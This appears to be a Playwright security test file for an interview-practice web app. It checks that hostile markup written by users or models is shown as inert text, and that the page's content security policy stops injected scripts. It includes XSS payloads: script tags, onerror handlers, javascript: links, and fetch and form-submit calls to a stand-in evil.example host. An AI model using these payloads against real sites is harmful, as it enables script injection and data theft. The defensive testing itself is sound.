"""What people and models write is shown as it is, and does nothing."""

from playwright.sync_api import Page, expect

from tests.browser import journeys
from tests.factories import ANSWER, POSTING
from tests.fakes.fake_openai import FakeOpenAI

HOSTILE = (
    '<script>window.ran=1</script><img src="https://evil.example/a" onerror="window.ran=1">'
    "![x](https://evil.example/b) [go](javascript:window.ran=1) <svg onload=window.ran=1>"
    "<a href='javascript:window.ran=1'>x</a> **snake_case_** List<String> &lt;b&gt; # C#"
)
MARKUP = "main :is(script, img, iframe, svg[onload], [href^='javascript'], [onerror])"


def test_markup_of_people_and_models_is_shown_and_does_nothing(
    page: Page, openai: FakeOpenAI, complaints: list[str]
) -> None:
    foreign: list[str] = []
    page.on("request", lambda r: foreign.append(r.url) if "evil" in r.url else None)
    asked = f"You write of {HOSTILE}. What did you do there?"
    first = {"type": "TECHNICAL", "requirement": HOSTILE, "evidence": None}
    reply = {"first": first, "text": asked, "key_points": [], "requirements": [], "topics": []}
    openai.next({"for": "interview_opening", "reply": reply})

    journeys.register(page)
    journeys.save_key(page)
    journeys.save_resume(page, f"- Led the payments team, {HOSTILE}\n- Wrote Python for 9 years")
    save_hostile_job(page)
    expect(page.locator("main")).to_contain_text(HOSTILE)
    assert_nothing_ran(page)
    journeys.begin(page, interviewer="OpenAI")
    shown = journeys.wait_for_question(page, 1)
    # Addresses of a model are left out; the rest are the characters it wrote.
    for part in (
        "<script>window.ran=1</script><img src=",
        "<svg onload=window.ran=1>",
        "&lt;b&gt;",
    ):
        assert part in shown
    journeys.answer(page, f"{HOSTILE} was what I wrote. {ANSWER}")
    assert HOSTILE[:40] in journeys.wait_for_feedback(page)
    assert_nothing_ran(page)
    journeys.next_question(page)
    journeys.wait_for_question(page, 2)
    journeys.finish(page)
    page.get_by_role("button", name="Finish now", exact=True).click()
    page.get_by_role("region", name="Summary", exact=True).wait_for()
    assert_nothing_ran(page)
    for path in ("/dashboard", "/history", "/jobs", "/resume"):
        page.goto(path)
        page.get_by_role("heading", level=1).wait_for()
        page.wait_for_timeout(200)
        assert_nothing_ran(page)

    assert foreign == []
    assert complaints == []


def save_hostile_job(page: Page) -> None:
    page.goto("/jobs/new")
    page.get_by_role("textbox", name="Role title", exact=True).fill(HOSTILE[:85])
    page.get_by_role("textbox", name="Company", exact=True).fill(HOSTILE[28:115])
    page.get_by_role("combobox", name="Experience level", exact=True).select_option("Senior")
    page.get_by_role("textbox", name="Tech stack", exact=True).fill("<img src=x>, C#")
    text = f"{POSTING}\n- {HOSTILE}"
    page.get_by_role("textbox", name="Job description", exact=True).fill(text)
    page.get_by_role("button", name="Save job posting", exact=True).click()
    page.wait_for_url("**/jobs/*-*-*-*-*")


def assert_nothing_ran(page: Page) -> None:
    assert page.locator(MARKUP).count() == 0
    assert page.evaluate("window.ran") is None


def test_a_script_that_got_into_a_page_would_not_run(page: Page) -> None:
    """The second line: the page's policy, should markup ever get through."""
    left, stopped = [], []
    page.on("request", lambda r: left.append(r.url) if "evil" in r.url else None)
    page.on("requestfailed", lambda r: stopped.append((r.url, r.failure)))
    page.goto("/scores")

    page.evaluate(
        """() => {
            const inline = document.createElement('script');
            inline.textContent = 'window.ran = 1';
            const foreign = document.createElement('script');
            foreign.src = 'https://evil.example/x.js';
            const own = document.createElement('script');
            own.src = 'data:text/javascript,window.ran=1';
            document.body.append(inline, foreign, own);
            document.body.insertAdjacentHTML('beforeend',
                '<img src=nothing onerror="window.ran=1">' +
                '<img src="https://evil.example/x.png">' +
                '<iframe srcdoc="<script>parent.ran=1</script>"></iframe>' +
                '<form action="https://evil.example/" id="leak"><input name="x"></form>' +
                '<a href="javascript:window.ran=1" id="bait">x</a>');
            document.getElementById('bait').click();
            document.getElementById('leak').submit();
            fetch('https://evil.example/').catch(() => 0);
            setTimeout('window.ran = 1', 0);
        }"""
    )
    page.wait_for_timeout(500)

    assert page.evaluate("window.ran") is None
    # The driver reports requests that the policy stops before they leave.
    assert {url for url, why in stopped if why == "csp"} >= set(left)
    assert page.url.endswith("/scores")
